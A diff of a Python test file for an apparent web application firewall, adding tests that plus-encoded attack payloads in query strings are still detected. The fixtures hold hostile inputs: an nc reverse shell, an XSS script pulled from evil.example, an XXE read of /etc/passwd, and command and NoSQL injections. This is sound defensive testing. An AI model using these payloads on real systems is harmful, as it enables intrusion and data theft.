@@ -200,11 +200,11 @@ def test_declared_base64_bytes_become_text_the_way_a_lenient_server_reads_them()
 def test_marker_checks_agree_with_the_definition_of_a_marker() -> None:
     """The fast checks (isascii and one find per marker) decide which strings are decoded at all:
     ``_has_marker`` for one string, ``_marked`` for the strings a flush joins. A marker is any
-    character beyond ASCII or one of % & \\ $ * ' "."""
+    character beyond ASCII or one of % & \\ $ * ' " +."""
     from hullguard.firewall.inspection import _has_marker, _marked
 
     def marked(text: str) -> bool:
-        return any(ord(char) > 127 or char in "%&\\$*'\"" for char in text)
+        return any(ord(char) > 127 or char in "%&\\$*'\"+" for char in text)
 
     samples = [chr(c) for c in range(256)] + ["plain words 123", "a%b", "x\u200by", "ｓｅｌｅｃｔ", "", "\U0001f600"]
     samples += [f"abc{c}def" for c in "%&\\$*'\"+<>;|`"]
@@ -216,6 +216,40 @@ def test_marker_checks_agree_with_the_definition_of_a_marker() -> None:
         texts = ["".join(rng.choice(pieces) for _ in range(rng.randint(0, 4))) for _ in range(rng.randint(1, 8))]
         expected = [index for index, text in enumerate(texts) if marked(text)]
         assert _marked(texts, "\n".join(texts)) == expected, texts
+
+
+@pytest.mark.parametrize(
+    ("value", "family"),
+    [
+        ("&&+ipconfig+/all", "cmdi"),
+        ("|+nc+-e+/bin/sh+10.0.0.1+4444", "cmdi"),
+        ("<script+src=//evil.example/x.js></script>", "xss"),
+        ('<!DOCTYPE+foo+[<!ENTITY+xxe+SYSTEM+"file:///etc/passwd">]><foo>&xxe;</foo>', "xxe"),
+        ("';return+'a'=='a'+&&+''=='", "nosql"),
+    ],
+)
+def test_plus_for_space_is_read_as_a_back_end_that_decodes_once_more_would(value: str, family: str) -> None:
+    """API Gateway has form-decoded the query: a "+" left in a value was sent as %2B, and a framework
+    that decodes the value again turns it into the space the attack needs."""
+    verdict = Firewall().inspect(_query(value))
+    assert family in {f.attack for f in verdict.findings}, verdict.findings
+
+
+def test_a_plus_view_is_made_only_where_it_can_matter() -> None:
+    """The spaced view is made for short values and for values of up to 1 KB with punctuation
+    injections need; not for a long base64 run (the common "+" in benign traffic) or a huge blob."""
+    blob = "W7N7Uu94bq+Vmrg+pkkKvFWo9bYb3dBki+O8Q8E8rmnYnPcFH4uEenrVdt202b49QMdgOHJ2lPWvhAnrenUgf4hu+Jl+1YTe5JkTk"
+    cases = [
+        ("sort+by+price", True),
+        ("x" * 200 + ";+id", True),
+        (blob * 2, False),
+        ("a;" + "b+c" * 400, False),
+    ]
+    for value, spaced in cases:
+        views = [text for _, text in views_scanned(FW, _query(value))]
+        assert (value.replace("+", " ") in views) == spaced, value[:40]
+    clean = Firewall().inspect(_query("https://shop.example/c/women?srule=sort+by+price+high+to+low&start=0"))
+    assert not clean.findings
 
 
 def test_overlong_form_of_a_surrogate_does_not_stop_the_inspection() -> None:
